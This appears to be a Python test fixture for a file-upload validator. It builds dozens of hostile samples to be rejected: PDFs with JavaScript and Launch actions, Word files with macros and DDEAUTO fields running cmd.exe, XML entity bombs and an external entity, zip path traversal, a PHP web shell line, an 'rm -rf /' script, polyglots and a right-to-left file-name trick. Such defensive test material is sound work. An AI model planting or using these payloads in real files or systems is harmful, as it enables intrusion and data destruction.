"""Files that must not be taken in, by what is wrong with each: name of the file and its bytes."""

from __future__ import annotations

import zlib

from tests.files import making as m

JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
ENTITIES = (
    '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><d>&c;</d>'
)
OUTSIDE = "https://elsewhere.example/x"


def pdfs() -> dict[str, tuple[str, bytes]]:
    link = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {} >>]"
    acts = {
        "runs a script when opened": m.pdf(f"/OpenAction {JS}"),
        "runs a script by name": m.pdf(f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
        "writes its script’s name in numbers": m.pdf(
            "/OpenAction << /S /J#61vaScript /J#53 (x) >>"
        ),
        "hides its script in a compressed stream": m.hidden_in_stream(JS),
        "starts a program": m.pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "starts a program from a link": m.pdf(page=link.format("<< /S /Launch /F (a.exe) >>")),
        "carries another file": m.pdf(
            "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
            extra={6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                   7: m.stream(b"MZ", "/Type /EmbeddedFile")},
        ),
        "has a file pinned to a page": m.pdf(
            page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]",
            extra={6: b"<< /Type /Filespec /F (a.exe) >>"},
        ),
        "is a portfolio": m.pdf("/Collection << /View /D >>"),
        "sends a form": m.pdf(page=link.format(f"<< /S /SubmitForm /F ({OUTSIDE}) >>")),
        "opens another file": m.pdf("/OpenAction << /S /GoToR /F (\\\\host) /D [0] >>"),
        "opens a file inside": m.pdf(page=link.format("<< /S /GoToE /T << /R /C >> >>")),
        "does something as pages turn": m.pdf(page=f"/AA << /O {JS} >>"),
        "has a form that acts": m.pdf("/AcroForm << /Fields [] /XFA (<xdp/>) >>"),
        "plays a film": m.pdf(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        "imports data": m.pdf(page=link.format("<< /S /ImportData /F (a.fdf) >>")),
        "links to a script": m.pdf(page=link.format("<< /S /URI /URI (javascript:alert(1)) >>")),
        "acts in a later link of a chain": m.pdf(
            page=link.format(f"<< /S /URI /URI ({OUTSIDE}) /Next {JS} >>")
        ),
        "is locked": m.assembled(
            {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>",
             3: b"<< /Filter /Standard /V 1 /R 2 /O (" + b"o" * 32 + b") /U (" + b"u" * 32
                + b") /P -1 >>"},
            "/Encrypt 3 0 R /ID [(a) (a)]", "1.4",
        ),
        "has no pages": m.pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0"),
        "has no end": m.pdf()[:-60],
        "has a program behind its end": m.pdf() + b"MZ\x90\x00 program",
        "is a zip as well": m.pdf() + m.zipped({"a.txt": "x"}),
        "is a page as well": b"%PDF-1.7\n<script>alert(1)</script>\n" + m.pdf()[9:],
    }  # fmt: skip
    return {f"a PDF that {what}": ("letter.pdf", data) for what, data in acts.items()}


def packages() -> dict[str, tuple[str, bytes]]:
    external = (("attachedTemplate", f"{OUTSIDE}.dotm", "External"),)
    field = '<w:p><w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r></w:p>'
    rels, drawing = "word/_rels/document.xml.rels", "word/media/a.svg"
    words = {
        "macros": m.docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macros under another name": m.docx_with({"word/other.bin": b"x"}),
        "a template from elsewhere": m.docx_with(
            {"word/_rels/settings.xml.rels": m.relations(*external)}
        ),
        "a picture from elsewhere": m.docx_with(
            {rels: m.relations(("image", f"{OUTSIDE}.png", "External"))}
        ),
        "a frame from elsewhere": m.docx_with(
            {rels: m.relations(("frame", OUTSIDE, "External"))}
        ),
        "an object": m.docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "a page of HTML": m.docx_with(
            {rels: m.relations(("aFChunk", "part.html", "")), "word/part.html": "<script>"}
        ),
        "a link that runs": m.docx_with(
            {rels: m.relations(("hyperlink", "javascript:alert(1)", "External"))}
        ),
        "a field that starts a program": m.docx(field.format('DDEAUTO c:\\\\cmd.exe "/k calc"')),
        "a field that loads": m.docx(field.format(f'INCLUDEPICTURE "{OUTSIDE}.png" \\d')),
        "a field in pieces that starts a program": m.docx(
            field.format("DD") + field.format("EAUTO c:\\\\cmd.exe")
        ),
        "a field spelt in numbers": m.docx(field.format("QUOTE 68 68 69 32 99")),
        "a drawing that runs": m.docx_with(
            {drawing: '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'}
        ),
        "a drawing that listens": m.docx_with(
            {drawing: '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'}
        ),
        "entities in its text": m.docx_with({"word/document.xml": ENTITIES}),
        "entities in two-byte letters": m.docx_with(
            {"word/document.xml": ENTITIES.encode("utf-16")}
        ),
        "an external entity": m.docx_with(
            {"customXml/item1.xml": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///x">]><d>&x;</d>'}
        ),
        "a bomb": m.docx_with({"word/media/a.dat": b"\0" * 90_000_000}),
        "too many parts": m.docx_with({f"customXml/i{n}.txt": "x" for n in range(2_100)}),
        "a part outside": m.docx_with({"../../etc/cron.d/x": "x"}),
        "a part of the system": m.docx_with({"/etc/x": "x"}),
        "another archive": m.docx_with({"word/media/a.dat": m.zipped({"a": "b"})}),
        "a program": m.docx_with({"word/media/a.dat": b"MZ\x90\0program"}),
        "broken XML": m.docx_with({"word/document.xml": "<w:document>"}),
        "endless depth": m.docx_with({"word/document.xml": "<a>" * 5_000 + "</a>" * 5_000}),
        "a broken picture": m.docx_with({"word/media/a.png": b"\x89PNG\r\n\x1a\nbroken"}),
        "a comment with another file": m.zipped(m.docx_parts(), comment=b"%PDF-1.7 and more"),
        "words behind its end": m.docx() + b"<script>alert(1)</script>",
    }  # fmt: skip
    found = {f"a Word file with {what}": ("letter.docx", data) for what, data in words.items()}
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    macro_type = m.docx_parts()
    macro_type["[Content_Types].xml"] = str(macro_type["[Content_Types].xml"]).replace(
        f"{m.OOXML}.wordprocessingml.document.main+xml", enabled
    )
    template = m.docx_parts(kind="wordprocessingml.template")
    sheet = m.xlsx_parts()
    return found | {
        "a Word file whose kind is with macros": ("letter.docx", m.zipped(macro_type)),
        "a template": ("letter.docx", m.zipped(template)),
        "a sheet that fetches": ("t.xlsx", m.zipped(m.xlsx_parts(f'=WEBSERVICE("{OUTSIDE}")'))),
        "a sheet that starts a program": ("t.xlsx", m.zipped(m.xlsx_parts("=cmd|'/c calc'!A1"))),
        "a sheet of old macros": (
            "t.xlsx", m.zipped(sheet | {"xl/macrosheets/sheet1.xml": "<a/>"})
        ),
        "a sheet linked to others": (
            "t.xlsx", m.zipped(sheet | {"xl/externalLinks/externalLink1.xml": "<a/>"})
        ),
        "a sheet with a connection": ("t.xlsx", m.zipped(sheet | {"xl/connections.xml": "<a/>"})),
        "an open text with programs": ("a.odt", m.zipped(m.odf_parts() | {"Basic/a.xml": "<a/>"})),
        "an open text that listens": (
            "a.odt", m.odf('<script:event-listener script:language="x"/>')
        ),
        "an open text that loads a picture": (
            "a.odt", m.odf(f'<draw:image xlink:href="{OUTSIDE}.png"/>')
        ),
        "an open text that loads a section": (
            "a.odt", m.odf(f'<text:section-source xlink:href="{OUTSIDE}"/>')
        ),
        "an open table that loads a range": (
            "a.ods", m.odf("<table:cell-range-source/>", kind="spreadsheet")
        ),
        "an open text with a runnable link": (
            "a.odt", m.odf('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')
        ),
        "an open presentation": ("a.odt", m.odf(kind="presentation")),
        "a plain archive": ("a.zip", m.zipped({"a.txt": "x"})),
        "an archive under the name of a letter": ("a.docx", m.zipped({"a.txt": "x"})),
    }  # fmt: skip


def pictures_and_texts() -> dict[str, tuple[str, bytes]]:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    packed = m.zipped({"a.txt": "x"})
    return {
        "a drawing": ("a.svg", svg.encode()),
        "a drawing with nothing in it": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
        "a drawing under the name of a picture": ("a.png", svg.encode()),
        "a page": ("a.html", b"<!doctype html><p>Hello"),
        "a page under the name of a text": ("a.txt", b"<html><body>Hello</body></html>"),
        "a script inside a table": ("a.csv", b'name\n"<script>alert(1)</script>"\n'),
        "a page in two-byte letters": ("a.txt", "<html>x".encode("utf-16")),
        "a program of the shell": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
        "a program of a server": ("a.txt", b"<?php system($_GET[0]);"),
        "a moving picture that is a script": ("a.gif", b"GIF89a=1;alert(1)//"),
        "a moving picture under the name of a text": ("a.txt", b"GIF89a=1;alert(1)//"),
        "a program": ("a.exe", b"MZ\x90\0" + b"\0" * 60),
        "a program under the name of a letter": ("a.pdf", b"MZ\x90\0" + b"\0" * 60),
        "a program of Linux": ("a.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 60),
        "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "an old Word file under a new name": (
            "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
        ),
        "a letter that PostScript draws": ("a.pdf", b"%!PS-Adobe-3.0\n\0(hi) show"),
        "a rich text": ("a.docx", b"{\\rtf1{\\object\\objdata 00}}"),
        "nothing at all": ("a.pdf", b""),
        "more than may be": ("a.txt", b"a" * 10_000_001),
        "a picture of a thousand million points": ("a.png", m.png_of_size(50_000, 50_000)),
        "a picture that ends early": ("a.png", m.picture("PNG", (400, 400))[:120]),
        "a photo that ends early": ("a.jpg", m.picture("JPEG")[:60]),
        "a picture with an archive behind it": ("a.png", m.picture() + packed),
        "a photo with an archive behind it": ("a.jpg", m.picture("JPEG") + packed),
        "a picture with a page in its words": ("a.png", m.with_words(Comment="<script>x</script>")),
        "a photo with a server’s program in it": (
            "a.jpg", m.picture("JPEG", comment=b"<?php system($_GET[0]); ?>")
        ),
        "a photo with a PDF in its words": ("a.jpg", m.picture("JPEG", comment=b"%PDF-1.7 x")),
        "a picture that moves": (
            "a.webp",
            m.picture("WEBP", save_all=True, append_images=[m.Image.new("RGB", (40, 30), "red")],
                      duration=100),
        ),
        "a moving picture": ("a.gif", m.picture("GIF")),
        "a raw picture": ("a.bmp", m.picture("BMP")),
        "a picture under the name of a letter": ("a.pdf", m.picture()),
        "a letter under the name of a picture": ("a.png", m.pdf()),
        "a letter under the name of a program": ("letter.pdf.exe", m.pdf()),
        "a letter whose name turns round": ("letter\u202efdp.exe", m.pdf()),
        "compressed noise": ("a.gz", zlib.compress(b"x" * 9_000)),
        "noise": ("a.bin", bytes(range(256)) * 20),
    }  # fmt: skip


def entity_bombs() -> dict[str, tuple[str, bytes]]:
    """Source: defusedxml 0.7.1 (PSF licence), written anew."""
    quadratic = '<!DOCTYPE b [<!ENTITY a "' + "B" * 10_000 + '">]><b>' + "&a;" * 2_000 + "</b>"
    return {
        "an XML file that grows": ("a.xml", quadratic.encode()),
        "a letter that grows": (
            "a.docx", m.docx_with({"word/comments.xml": quadratic})
        ),
    }  # fmt: skip


HOSTILE = pdfs() | packages() | pictures_and_texts() | entity_bombs()
